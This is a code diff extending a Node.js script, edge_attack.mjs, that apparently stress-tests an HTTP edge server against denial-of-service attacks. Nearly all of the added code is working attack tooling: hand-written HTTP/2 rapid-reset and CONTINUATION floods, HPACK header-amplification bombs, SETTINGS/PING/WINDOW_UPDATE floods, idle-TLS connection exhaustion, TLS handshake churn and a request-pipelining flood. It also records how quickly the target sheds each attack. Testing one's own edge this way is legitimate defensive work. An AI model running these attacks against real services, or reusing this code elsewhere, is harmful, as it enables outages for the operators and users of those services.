@@ -35,6 +35,23 @@
 //              reads the responses (HTTP/1.1, parsed: Content-Length / chunked / close) until the
 //              peer closes, --timeout s pass, or --quiet-ms pass without a byte after a response.
 //              Summary: statuses of every response, closed by peer, first body (up to 2000 bytes).
+//   h2         --h2 KIND: TLS with ALPN h2, the preface, then KIND's frames (written by hand) as fast
+//              as the socket takes them, --count units per connection (100000), with --no-read never
+//              reading; --parallel P (1) connections at a time, a new one each time the edge shed one,
+//              up to --conns. KIND: rapidreset (HEADERS + RST_STREAM per stream), continuation
+//              (HEADERS without END_HEADERS, then CONTINUATIONs of --frame-bytes), hpackref (a
+//              --value-bytes (4000) field into the HPACK table, then one-byte references to it filling
+//              a 16 KiB HEADERS frame), hpacklit (one --value-bytes literal over CONTINUATIONs),
+//              hpackmany (~2,700 tiny fields per frame), settings, ping, window (WINDOW_UPDATE +1).
+//              Summary: connections, shed by the edge and when (ms from the first attack byte), units
+//              sent, frames received by type, GOAWAY codes seen, response statuses.
+//   idletls    --conns 3000: TLS handshakes, then nothing. Summary as connflood's, plus tlsDone and
+//              overdue (still open at the end, older than --cut-ms, not closed by the edge).
+//   pipeline   --count 1000: one TLS connection writes `GET /headers?i=K` for every K in one go, then
+//              reads until all are answered or --timeout (30 s). Summary: responses, statuses, how many
+//              in order (the origin's /headers echoes the URL), ms to the last, closed by peer.
+//   tlschurn   --parallel 16 loops of TCP connect + TLS handshake + close until --duration. Summary:
+//              handshakes done (and per second), connections reset before their handshake finished.
 import net from 'node:net';
 import tls from 'node:tls';
 
@@ -72,7 +89,7 @@ const locals = expandLocal(opt('--local', '127.0.0.2'));
 const localFor = (i) => locals[i % locals.length];
 
 if (!mode || !port) {
-  process.stderr.write('usage: node edge_attack.mjs flood|slowbody|chunkext|connflood|slowloris|raw --port P [options]\n');
+  process.stderr.write('usage: node edge_attack.mjs flood|slowbody|chunkext|connflood|slowloris|raw|h2|idletls|pipeline|tlschurn --port P [options]\n');
   process.exit(2);
 }
 
@@ -575,6 +592,343 @@ async function rawExchange(payload) {
   later(100, quiet);
 }
 
+// --- HTTP/2 raw frames (mode h2) -------------------------------------------------------------------
+// Frames are written by hand: nghttp2-based clients (and Node's http2) refuse to send these.
+const H2 = { DATA: 0, HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, GOAWAY: 7, WINDOW_UPDATE: 8, CONTINUATION: 9 };
+const H2_PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
+function h2frame(type, flags, stream, payload = Buffer.alloc(0)) {
+  const h = Buffer.alloc(9);
+  h.writeUIntBE(payload.length, 0, 3);
+  h[3] = type;
+  h[4] = flags;
+  h.writeUInt32BE(stream & 0x7fffffff, 5);
+  return Buffer.concat([h, payload]);
+}
+// HPACK integer with an N-bit prefix (RFC 7541 §5.1); `first` holds the pattern bits above the prefix.
+function hpackInt(first, bits, v) {
+  const max = (1 << bits) - 1;
+  if (v < max) return Buffer.from([first | v]);
+  const out = [first | max];
+  v -= max;
+  while (v >= 128) { out.push((v & 0x7f) | 0x80); v = Math.floor(v / 128); }
+  out.push(v);
+  return Buffer.from(out);
+}
+// A literal field (not Huffman): `indexing` true = with incremental indexing (0x40, 6-bit name
+// index), else without indexing (0x00, 4-bit); `name` a static-table index or a string.
+function hpackLiteral(name, value, indexing = false) {
+  const v = Buffer.from(value, 'latin1');
+  const parts = [];
+  if (typeof name === 'number') {
+    parts.push(indexing ? hpackInt(0x40, 6, name) : hpackInt(0x00, 4, name));
+  } else {
+    const n = Buffer.from(name, 'latin1');
+    parts.push(Buffer.from([indexing ? 0x40 : 0x00]), hpackInt(0, 7, n.length), n);
+  }
+  parts.push(hpackInt(0, 7, v.length), v);
+  return Buffer.concat(parts);
+}
+// GET https://AUTHORITY/PATH: :method GET (2), :scheme https (7), then :path and :authority literals.
+function hpackRequest(authority, path) {
+  return Buffer.concat([Buffer.from([0x82, 0x87]), hpackLiteral(4, path), hpackLiteral(1, authority)]);
+}
+const FLAG = { END_STREAM: 1, ACK: 1, END_HEADERS: 4 };
+
+// Parses server frames; returns {frames, goaway, ...} counters the summary reports.
+function h2reader(rec) {
+  let buf = Buffer.alloc(0);
+  rec.h2 = { frames: {}, headers: 0, statuses: {}, rst: 0, goaway: null, pings: 0, settingsAcks: 0, bytes: 0 };
+  return (d) => {
+    rec.h2.bytes += d.length;
+    buf = buf.length ? Buffer.concat([buf, d]) : d;
+    while (buf.length >= 9) {
+      const len = buf.readUIntBE(0, 3);
+      if (buf.length < 9 + len) break;
+      const type = buf[3], flags = buf[4], payload = buf.subarray(9, 9 + len);
+      buf = buf.subarray(9 + len);
+      rec.h2.frames[type] = (rec.h2.frames[type] ?? 0) + 1;
+      if (type === H2.HEADERS) {
+        rec.h2.headers++;
+        // The edge's responses start with an indexed :status (static 8..14) or a literal with name 8.
+        const b = payload[(flags & 0x8) ? 1 : 0];
+        const st = { 0x88: 200, 0x89: 204, 0x8a: 206, 0x8b: 304, 0x8c: 400, 0x8d: 404, 0x8e: 500 }[b];
+        let key = st ?? 'other';
+        if (st === undefined && (b & 0xf0) === 0x00 && (b & 0x0f) === 8) key = payload.subarray(2, 5).toString('latin1');
+        if (st === undefined && (b & 0xc0) === 0x40 && (b & 0x3f) === 8) key = payload.subarray(2, 5).toString('latin1');
+        rec.h2.statuses[key] = (rec.h2.statuses[key] ?? 0) + 1;
+      } else if (type === H2.RST_STREAM) {
+        rec.h2.rst++;
+      } else if (type === H2.PING && (flags & FLAG.ACK)) {
+        rec.h2.pings++;
+      } else if (type === H2.SETTINGS && (flags & FLAG.ACK)) {
+        rec.h2.settingsAcks++;
+      } else if (type === H2.GOAWAY && rec.h2.goaway === null) {
+        rec.h2.goaway = { atMs: since(), lastStream: payload.readUInt32BE(0) & 0x7fffffff,
+          code: payload.readUInt32BE(4), debug: payload.subarray(8, 200).toString('latin1'),
+          sentBefore: rec.sent ?? 0 };
+      }
+    }
+  };
+}
+
+// TLS connections with ALPN h2, each sending the chosen --h2 attack as fast as the socket takes it
+// (with --no-read never reading), until the edge closes it, --count units were sent, or --duration
+// ends; --parallel P (default 1) connections at a time, each followed by a new one once the edge shed
+// it (at most --conns, default unlimited). A unit is a stream (rapidreset, hpackref, hpacklit,
+// hpackmany) or a frame (settings, ping, window, continuation).
+async function h2attack() {
+  const kind = opt('--h2', 'rapidreset');
+  const count = num('--count', 100000);
+  const noRead = argv.includes('--no-read');
+  const authority = opt('--host-header', servername);
+  const workers = num('--parallel', 1);
+  const maxConns = num('--conns', 1e9);
+  const big = 'b'.repeat(num('--value-bytes', 4000));
+  const units = {
+    // HEADERS (END_STREAM|END_HEADERS) then RST_STREAM(CANCEL) on a new stream each time.
+    rapidreset: (rec) => {
+      const s = rec.stream; rec.stream += 2;
+      return Buffer.concat([h2frame(H2.HEADERS, FLAG.END_STREAM | FLAG.END_HEADERS, s, hpackRequest(authority, '/hello')),
+        h2frame(H2.RST_STREAM, 0, s, Buffer.from([0, 0, 0, 8]))]);
+    },
+    // The first unit: HEADERS without END_HEADERS; then CONTINUATION frames without END_HEADERS, forever.
+    continuation: (rec) => {
+      if (rec.sent === 0) return h2frame(H2.HEADERS, FLAG.END_STREAM, 1, hpackRequest(authority, '/hello'));
+      return h2frame(H2.CONTINUATION, 0, 1, hpackLiteral('x-c', 'c'.repeat(Math.max(1, num('--frame-bytes', 64) - 6))));
+    },
+    // A --value-bytes (4000) field added to the dynamic table, then referenced (one byte: index 62)
+    // until the 16,384-byte frame is full: ~16 MB-64 MB of header list from 16 KiB on the wire.
+    hpackref: (rec) => {
+      const s = rec.stream; rec.stream += 2;
+      const head = Buffer.concat([hpackRequest(authority, '/hello'), hpackLiteral('x-big', big, true)]);
+      const refs = Buffer.alloc(16384 - head.length, 0xbe);
+      return h2frame(H2.HEADERS, FLAG.END_STREAM | FLAG.END_HEADERS, s, Buffer.concat([head, refs]));
+    },
+    // One --value-bytes literal value (try 60000), split over 16 KiB CONTINUATIONs.
+    hpacklit: (rec) => {
+      const s = rec.stream; rec.stream += 2;
+      const block = Buffer.concat([hpackRequest(authority, '/hello'), hpackLiteral('x-huge', big)]);
+      const frames = [];
+      for (let off = 0; off < block.length; off += 16384) {
+        const last = off + 16384 >= block.length;
+        frames.push(h2frame(off === 0 ? H2.HEADERS : H2.CONTINUATION,
+          (off === 0 ? FLAG.END_STREAM : 0) | (last ? FLAG.END_HEADERS : 0), s, block.subarray(off, off + 16384)));
+      }
+      return Buffer.concat(frames);
+    },
+    // A 16 KiB header block of ~2,700 tiny fields (`a: b`, without indexing).
+    hpackmany: (rec) => {
+      const s = rec.stream; rec.stream += 2;
+      const head = hpackRequest(authority, '/hello');
+      const one = hpackLiteral('a', 'b');
+      const n = Math.floor((16384 - head.length) / one.length);
+      return h2frame(H2.HEADERS, FLAG.END_STREAM | FLAG.END_HEADERS, s, Buffer.concat([head, ...Array(n).fill(one)]));
+    },
+    settings: () => h2frame(H2.SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0xff, 0xff])), // INITIAL_WINDOW_SIZE 65535
+    ping: (rec) => h2frame(H2.PING, 0, 0, Buffer.alloc(8, rec.sent & 0xff)),
+    window: () => h2frame(H2.WINDOW_UPDATE, 0, 0, Buffer.from([0, 0, 0, 1])),
+  };
+  const unit = units[kind];
+  if (!unit) { progress(`unknown --h2 ${kind}`); return finish('bad --h2'); }
+  const perBatch = ['rapidreset', 'settings', 'ping', 'window', 'continuation'].includes(kind) ? 256 : 4;
+  summarize = (endAt) => {
+    const ready = conns.filter((r) => r.readyAt !== undefined);
+    const shed = ready.filter((r) => r.peerClosedAt !== undefined).map((r) => r.peerClosedAt - r.attackAt).sort((a, b) => a - b);
+    const sent = ready.map((r) => r.sent).sort((a, b) => a - b);
+    const sum = (f) => ready.reduce((a, r) => a + f(r), 0);
+    const goaways = countBy(ready.filter((r) => r.h2.goaway), 'goawayCode');
+    return {
+      kind, noRead, conns: conns.length, connected: ready.length, alpn: countBy(ready, 'alpn'),
+      unitsSent: sum((r) => r.sent), bytesWritten: sum((r) => r.written),
+      unitsPerConn: { min: sent[0] ?? null, p50: quantile(sent, 0.5), max: sent.at(-1) ?? null },
+      closedByPeer: shed.length, notClosedByPeer: ready.length - shed.length,
+      // From a connection's first attack byte to the edge's close (a GOAWAY is often lost to the
+      // reset that follows it while we still write).
+      shedMs: { min: shed[0] ?? null, p50: quantile(shed, 0.5), p99: quantile(shed, 0.99), max: shed.at(-1) ?? null },
+      closedHow: countBy(ready.filter((r) => r.peerClosedAt !== undefined), 'peerCloseHow'),
+      goaways, framesIn: ready.reduce((a, r) => { for (const [k, v] of Object.entries(r.h2.frames)) a[k] = (a[k] ?? 0) + v; return a; }, {}),
+      responseStatuses: ready.reduce((a, r) => { for (const [k, v] of Object.entries(r.h2.statuses)) a[k] = (a[k] ?? 0) + v; return a; }, {}),
+      errors: countBy(conns.filter((r) => r.error), 'error'),
+      endAt,
+    };
+  };
+  // One connection; resolves when it is closed (by either side) or the attack ends.
+  const one = (rec) => new Promise((resolve) => {
+    const sock = tls.connect({ host, port, localAddress: rec.local, servername, rejectUnauthorized: false,
+      ALPNProtocols: ['h2'] });
+    rec.sock = sock;
+    rec.tried = true;
+    sockets.add(sock);
+    sock.once('connect', () => { rec.connectAt = since(); });
+    watchClose(sock, rec);
+    const read = h2reader(rec);
+    sock.on('data', (d) => {
+      read(d);
+      if (rec.h2.goaway && rec.goawayCode === undefined) rec.goawayCode = rec.h2.goaway.code;
+      // Our SETTINGS ACK for the edge's SETTINGS.
+      if (!rec.acked && rec.h2.frames[H2.SETTINGS]) { rec.acked = true; sock.write(h2frame(H2.SETTINGS, FLAG.ACK, 0)); }
+    });
+    sock.once('close', resolve);
+    sock.once('secureConnect', () => {
+      rec.readyAt = since();
+      rec.alpn = sock.alpnProtocol;
+      if (noRead) sock.pause();
+      sock.write(Buffer.concat([H2_PREFACE, h2frame(H2.SETTINGS, 0, 0)]));
+      rec.attackAt = since();
+      const pump = () => {
+        while (!finishing && !sock.destroyed && rec.peerClosedAt === undefined) {
+          if (rec.sent >= count) { rec.sendDoneAt = rec.sendDoneAt ?? since(); return; }
+          const bufs = [];
+          for (let i = 0; i < perBatch && rec.sent < count; i++) { bufs.push(unit(rec)); rec.sent++; }
+          const b = Buffer.concat(bufs);
+          rec.written += b.length;
+          if (!sock.write(b)) return sock.once('drain', pump);
+        }
+      };
+      pump();
+    });
+    later(connectTimeoutMs, () => { if (rec.readyAt === undefined) { rec.error = rec.error ?? 'tls-timeout'; sock.destroy(); } });
+  });
+  const worker = async (w) => {
+    while (!finishing && conns.length < maxConns) {
+      const rec = { kind, local: localFor(conns.length), sent: 0, written: 0, stream: 1, h2: { frames: {}, statuses: {} } };
+      conns.push(rec);
+      await one(rec);
+      if (rec.readyAt === undefined) await new Promise((r) => later(100, r));  // refused: do not spin
+    }
+  };
+  const tick = () => {
+    if (finishing) return;
+    const ready = conns.filter((r) => r.readyAt !== undefined);
+    progress(`${kind}: ${conns.length} connections, ${ready.filter((r) => r.peerClosedAt !== undefined).length} shed, ` +
+      `${ready.reduce((a, r) => a + r.sent, 0)} units sent`);
+    later(2000, tick);
+  };
+  later(2000, tick);
+  await Promise.all(Array.from({ length: workers }, (_, w) => worker(w)));
+  finish('conns done');
+}
+
+// --- idle TLS connections (mode idletls) -----------------------------------------------------------
+// --conns 3000: TLS handshakes done (ALPN http/1.1), then nothing is sent. Summary as connflood's,
+// plus how many finished TLS.
+async function idletls() {
+  const n = num('--conns', 3000);
+  for (let i = 0; i < n; i++) conns.push({ kind: 'idletls', local: localFor(i) });
+  let openedAllAt = null;
+  // overdue: open at the end, not closed by the edge, and older than --cut-ms (a late connect on a
+  // loaded machine that is not due yet is not overdue).
+  summarize = (endAt) => ({ ...closeSummary(conns, endAt), tlsDone: conns.filter((r) => r.readyAt !== undefined).length,
+    overdue: conns.filter((r) => r.connectAt !== undefined && r.peerClosedAt === undefined && endAt - r.connectAt > cutMs).length,
+    connectPhaseMs: openedAllAt });
+  const tick = () => {
+    if (finishing) return;
+    progress(`TLS done ${conns.filter((r) => r.readyAt !== undefined).length}/${n}, closed by the edge ${conns.filter((r) => r.peerClosedAt !== undefined).length}`);
+    later(2000, tick);
+  };
+  later(2000, tick);
+  await openMany(n, (i) => connect(conns[i], { useTls: true }));
+  openedAllAt = since();
+  progress(`all ${n} connections tried in ${openedAllAt} ms`);
+}
+
+// --- TLS handshake churn (mode tlschurn) ----------------------------------------------------------
+// --parallel P (default 16) loops, each: TCP connect, full TLS handshake, close, again, until
+// --duration. Summary: handshakes done, connections reset or closed before the handshake finished
+// (the edge's handshake rate limit), handshakes per second, and per second of the attack.
+async function tlschurn() {
+  const workers = num('--parallel', 16);
+  let done = 0, refused = 0, other = 0;
+  const perSecond = [];
+  summarize = (endAt) => ({ handshakesDone: done, refusedBeforeHandshake: refused, otherErrors: other,
+    handshakesPerSecond: Math.round(done / (endAt / 1000)), donePerSecond: perSecond, errors: countBy(conns, 'error') });
+  const one = (rec) => new Promise((resolve) => {
+    const sock = tls.connect({ host, port, localAddress: rec.local, servername, rejectUnauthorized: false,
+      ALPNProtocols: ['http/1.1'] });
+    sockets.add(sock);
+    const timer = setTimeout(() => { rec.error = 'tls-timeout'; sock.destroy(); }, connectTimeoutMs);
+    sock.once('secureConnect', () => {
+      done++;
+      const sec = Math.floor(since() / 1000);
+      perSecond[sec] = (perSecond[sec] ?? 0) + 1;
+      sock.destroy();
+    });
+    sock.on('error', (e) => { rec.error = rec.error ?? e.code ?? e.message; });
+    sock.once('close', () => {
+      clearTimeout(timer);
+      sockets.delete(sock);
+      if (!sock.alpnProtocol && rec.error !== undefined) {
+        if (rec.error === 'ECONNRESET' || rec.error === 'EPIPE') refused++; else other++;
+      }
+      resolve();
+    });
+  });
+  const worker = async () => {
+    while (!finishing) {
+      const rec = { kind: 'churn', local: localFor(0) };
+      if (conns.length < 100000) conns.push(rec);
+      await one(rec);
+    }
+  };
+  const tick = () => {
+    if (finishing) return;
+    progress(`handshakes done ${done}, refused ${refused}, other ${other}`);
+    later(2000, tick);
+  };
+  later(2000, tick);
+  await Promise.all(Array.from({ length: workers }, () => worker()));
+}
+
+// --- pipelining (mode pipeline) ---------------------------------------------------------------------
+// --count 1000: one TLS connection writes `GET /headers?i=K` for K = 0..count-1 in one go, then
+// reads. Summary: responses, statuses, whether each response's body names its own request in order
+// (the origin's /headers echoes the URL), ms to the last one, closed by peer.
+async function pipeline() {
+  const n = num('--count', 1000);
+  const name = opt('--host-header', servername);
+  const timeoutMs = num('--timeout', 30) * 1000;
+  const rec = { kind: 'pipeline', local: localFor(0) };
+  conns.push(rec);
+  const responses = [];
+  const parser = responseParser(responses);
+  let sentAt = null;
+  summarize = () => {
+    parser.end();
+    let inOrder = 0;
+    for (let k = 0; k < responses.length; k++) {
+      const body = Buffer.concat(responses[k].body).toString('latin1');
+      if (body.includes(`"/headers?i=${k}"`)) inOrder++; else break;
+    }
+    return {
+      connected: rec.readyAt !== undefined, requests: n, requestBytes: rec.written ?? 0, responses: responses.length,
+      statuses: countBy(responses, 'status'), inOrder,
+      lastResponseMs: rec.lastAt !== undefined && sentAt !== null ? rec.lastAt - sentAt : null,
+      closedByPeer: rec.peerClosedAt !== undefined, peerCloseHow: rec.peerCloseHow ?? null,
+      closedAfterMs: rec.peerClosedAt !== undefined && sentAt !== null ? rec.peerClosedAt - sentAt : null,
+      error: rec.error ?? null,
+    };
+  };
+  later(timeoutMs, () => finish('timeout'));
+  await connect(rec, {
+    useTls: true,
+    onReady: (sock) => {
+      sock.on('data', (d) => {
+        parser.feed(d);
+        rec.lastAt = since();
+        if (responses.length >= n) finish('all answered');
+      });
+      sock.on('close', () => finish('closed'));
+      const reqs = [];
+      for (let k = 0; k < n; k++) reqs.push(`GET /headers?i=${k} HTTP/1.1\r\nHost: ${name}\r\n\r\n`);
+      const payload = Buffer.from(reqs.join(''), 'latin1');
+      rec.written = payload.length;
+      sentAt = since();
+      sock.write(payload);
+    },
+  });
+  if (rec.readyAt === undefined) finish('connect failed');
+}
+
 async function main() {
   switch (mode) {
     case 'flood': return flood();
@@ -582,6 +936,10 @@ async function main() {
     case 'connflood': return connflood();
     case 'slowloris': return slowloris();
     case 'raw': return rawExchange(unescape(opt('--data', '')));
+    case 'h2': return h2attack();
+    case 'idletls': return idletls();
+    case 'pipeline': return pipeline();
+    case 'tlschurn': return tlschurn();
     case 'chunkext': {
       const ext = num('--ext-bytes', 70000);
       const name = opt('--host-header', 'app.localhost');
